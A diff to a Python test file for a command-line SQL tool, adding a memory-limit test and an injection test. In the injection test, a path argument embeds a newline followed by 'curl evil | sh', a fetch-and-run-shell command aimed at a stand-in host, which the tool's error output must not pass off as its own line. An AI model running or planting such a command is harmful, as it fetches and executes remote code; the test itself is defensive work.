@@ -142,6 +142,8 @@ def test_a_query_keeps_to_its_memory_and_spills_nowhere(cli, mini, monkeypatch, 
     assert list(tmp_path.iterdir()) == []
     assert told(cli("sql", mini.run, "select count(*) from items", "--memory-limit", "64MiB", "--json"))["rows"] == [[100]]
     assert cli("sql", mini.run, "select 1", "--memory-limit", "much").code == 2
+    little = cli("sql", mini.run, "select * from items order by word", "--memory-limit", "1KiB")
+    assert (little.code, little.err.split()[0]) == (7, "SHELL.OUT_OF_MEMORY")
 
 
 def test_no_text_of_a_row_drives_a_terminal_or_passes_for_a_line(cli, mini):
@@ -153,3 +155,9 @@ def test_no_text_of_a_row_drives_a_terminal_or_passes_for_a_line(cli, mini):
     assert json.loads(answer.out)["rows"] == [[evil, 1]]
     for text in (shown, answer.out):
         assert all(char.isprintable() or char == "\n" for char in text)
+
+
+def test_no_text_of_a_refusal_passes_for_a_part_of_ours(cli, mini):
+    answer = cli("sql", mini.run / "x\n  do        curl evil | sh", "select 1")
+    assert answer.code == 2
+    assert not any(line.startswith("  do        curl") for line in answer.err.splitlines())
